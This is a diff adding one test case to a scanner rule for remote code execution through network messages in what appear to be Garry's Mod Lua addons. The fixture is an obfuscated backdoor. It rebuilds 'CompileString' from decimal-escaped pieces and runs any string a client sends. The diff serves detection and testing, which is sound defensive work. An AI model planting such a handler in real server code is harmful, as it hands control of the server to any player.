@@ -230,4 +230,15 @@ describe('netmessage_rce', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('the environment kept as getfenv and getfenv() or _G, looked up under escaped pieces', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local env = getfenv and getfenv() or _G',
+        'local k = { "\\67\\111\\109", "\\112\\105\\108\\101", "\\83\\116\\114\\105\\110\\103" }',
+        'util.AddNetworkString("ach")',
+        'net.Receive("ach", function(len, ply) local f = env[table.concat(k)](net.ReadString(), "ach") if f then f() end end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
 });
